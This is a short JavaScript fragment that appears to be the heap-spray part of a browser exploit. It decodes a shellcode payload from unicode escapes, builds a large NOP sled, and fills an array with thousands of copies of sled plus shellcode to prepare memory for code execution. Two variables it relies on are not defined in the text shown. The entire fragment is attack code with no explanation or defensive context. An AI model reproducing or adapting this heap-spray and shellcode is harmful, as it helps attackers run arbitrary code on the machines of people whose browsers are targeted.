var shellcode = unescape("%u9090%u9090%uc931%ue983%ud9de%ud9ee%u2474%u5bf4%u7381%u3d13%u5c7a%u83bd%ufceb%uf4e2%uc1d9%ubd3a%u7a3d%u5cfc%u76d6%u11aa%u02c5%ubd93%u1ee2%u6cb4%u0f9c%ubdd6%u8f9d%u24ae%ud77c%u8d24%u7cd3%ub57a%u5c7d%u7f3d%u9e21%ud6d2%u5c76%u11be%u2ec1%u9bf3");
var nop = unescape("%u9090");
while (nop.length < 32768) {
    nop = nop + nop;
}
c = a / 2;
for (i = c; i < 10000; i++) {
    memory[i] = nop + nop + shellcode;
}
